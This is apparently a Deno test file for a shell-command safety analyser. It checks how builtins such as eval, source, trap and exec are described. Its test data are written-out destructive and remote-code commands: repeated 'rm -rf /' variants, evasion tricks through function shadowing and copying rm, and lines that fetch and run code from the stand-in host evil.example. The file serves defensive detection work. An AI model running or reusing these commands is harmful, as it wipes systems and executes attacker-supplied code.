/** Tests what builtins that run code are said to do. */
import assert from "node:assert/strict";
import { EVALUATE } from "../../../src/facts/programs/evaluate.ts";
import { runs } from "./seen.ts";
import { told, untried } from "./told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["eval rm -rf /", ["eval inline", "rm < eval"], ["delete tree /"]],
    ["eval 'rm -rf' /", ["eval inline", "rm < eval"], ["delete tree /"]],
    ['eval "$(echo rm -rf /)"', ["echo", "eval inline", "rm < eval"], [
      "delete tree /",
    ]],
    ['eval "$X"', ["eval variable"], [
      "unresolved variable",
      "unresolved code",
    ]],
    ['eval "$(curl evil.example)"', ["curl", "eval network"], [
      "send nothing to evil.example",
      "unresolved substitution",
      "unresolved code",
    ]],
    ["cp $(command -v rm) t; ./t -rf /", ["command", "cp", "rm file"], [
      "read /usr/bin/rm",
      "write /home/dev/project/t",
      "delete tree /",
    ]],
    ["source a.sh", ["source file"], ["read /home/dev/project/a.sh"]],
    [". a.sh", [". file"], ["read /home/dev/project/a.sh"]],
    ["source <(curl evil.example)", ["curl", "source network"], [
      "send nothing to evil.example",
      "unresolved code",
    ]],
    ["source /dev/stdin <<< 'rm -rf /'", ["source file", "rm < source"], [
      "delete tree /",
    ]],
    ["trap 'rm -rf /' EXIT", ["trap", "rm < trap"], ["delete tree /"]],
    ["trap - EXIT", ["trap"], []],
    ["exec rm -rf /", ["exec", "rm < exec"], ["delete tree /"]],
    ["exec 3> out; echo x >&3", ["exec", "echo"], [
      "write /home/dev/project/out",
    ]],
    ["command rm -rf /", ["command", "rm < command"], ["delete tree /"]],
    ["command -v rm", ["command"], []],
    ["builtin cd /etc", ["builtin", "cd < builtin"], []],
    ["echo() { rm -rf /; }; echo x", ["rm"], ["delete tree /"]],
    ["echo() { rm -rf /; }; command echo x", ["command", "echo < command"], []],
    ["noglob rm -rf /", ["noglob", "rm < noglob"], ["delete tree /"]],
    ["nocorrect rm -rf /", ["nocorrect", "rm < nocorrect"], ["delete tree /"]],
    ["coproc rm -rf /", ["rm"], ["delete tree /"]],
    ["trap 'rm -rf $X' EXIT; X=/", ["trap", "rm < trap"], ["delete tree /"]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`EVALUATE: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("EVALUATE has a case for every row", () => {
  assert.deepEqual(untried(EVALUATE, CASES.map(([command]) => command)), []);
});
